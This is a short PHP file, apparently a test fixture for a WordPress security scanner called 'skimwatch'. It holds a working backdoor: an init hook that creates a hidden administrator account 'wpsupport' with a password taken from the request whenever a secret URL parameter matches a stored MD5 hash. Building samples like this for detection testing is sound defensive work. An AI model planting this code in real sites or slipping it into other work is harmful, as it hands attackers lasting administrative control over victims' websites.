<?php
// Synthetic WordPress backdoor for skimwatch tests, shaped like the
// mu-plugins that add a rogue administrator when a parameter is present.
add_action('init', function () {
    if (isset($_GET['wp_debug_key']) && md5($_GET['wp_debug_key']) === '5d41402abc4b2a76b9719d911017c592') {
        if (!username_exists('wpsupport')) {
            wp_insert_user(array('user_login' => 'wpsupport', 'user_pass' => $_GET['p'], 'role' => 'administrator'));
        }
    }
});
